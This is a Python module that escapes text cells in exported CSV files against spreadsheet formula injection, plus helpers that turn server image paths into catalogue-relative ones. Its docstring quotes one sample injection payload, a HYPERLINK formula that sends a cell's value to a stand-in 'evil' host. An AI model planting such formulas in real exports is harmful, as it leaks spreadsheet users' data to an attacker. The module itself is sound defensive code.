"""CSV files people open in a spreadsheet: every text cell safe from formula injection.

A product title such as ``=HYPERLINK("http://evil/?"&A1, "click")`` comes from a seller's
manifest, travels through the catalogue and lands in an exported CSV; Excel, LibreOffice
and Google Sheets run a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in some,
a tab or carriage return) as a formula. Following the OWASP rule, such text cells get a
leading single quote, which the spreadsheet shows as plain text. Numbers are left alone:
``-0.5`` in a numeric column stays a number, while the text ``"-0.5"`` is escaped.

Every CSV the engine or the app writes for people goes through :func:`csv_safe` (or
:func:`to_csv`): the CLI's ``report`` and ``evaluate --out``, and the app's download buttons.
"""
from __future__ import annotations

from pathlib import Path

import pandas as pd

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """The value, with a leading ``'`` when it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def csv_safe(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` with every text cell (and column name) escaped; numeric columns untouched."""
    out = df.copy()
    for col in out.columns:
        s = out[col]
        if isinstance(s.dtype, pd.CategoricalDtype):
            s = s.astype(object)
        if s.dtype == object or pd.api.types.is_string_dtype(s.dtype):
            out[col] = s.map(safe_cell, na_action="ignore")
    out.columns = [safe_cell(c) for c in out.columns]
    return out


def to_csv(df: pd.DataFrame, path: str | Path | None = None, **kwargs) -> str | None:
    """``csv_safe(df).to_csv(...)`` without the index: the text when ``path`` is None."""
    kwargs.setdefault("index", False)
    return csv_safe(df).to_csv(path, **kwargs)


PATH_COLUMNS = ("references", "examples", "missing_examples", "path", "image")


def catalogue_relative(df: pd.DataFrame, roots, columns: tuple[str, ...] = PATH_COLUMNS) -> pd.DataFrame:
    """A copy of ``df`` whose path columns name images relative to the catalogue (the manifest's
    image paths), not by the server's absolute paths: every prefix in ``roots`` (the folders the
    catalogue's images were imported from, :func:`catalogue_roots`) is cut from their text cells."""
    roots = sorted({str(r) for r in roots if r}, key=len, reverse=True)
    out = df.copy()
    if not roots:
        return out

    def cut(cell):
        if not isinstance(cell, str):
            return cell
        for r in roots:
            cell = cell.replace(r, "")
        return cell

    for col in columns:
        if col in out.columns:
            out[col] = out[col].map(cut)
    return out


def catalogue_roots(images: pd.DataFrame) -> set[str]:
    """The folders a catalogue's images were imported from (``path`` minus ``rel_path``, with the
    separator), from ``Store.images()``."""
    roots = set()
    for path, rel in zip(images["path"].astype(str), images["rel_path"].fillna("").astype(str)):
        if rel and path.endswith(rel) and len(path) > len(rel):
            roots.add(path[: -len(rel)])
    return roots
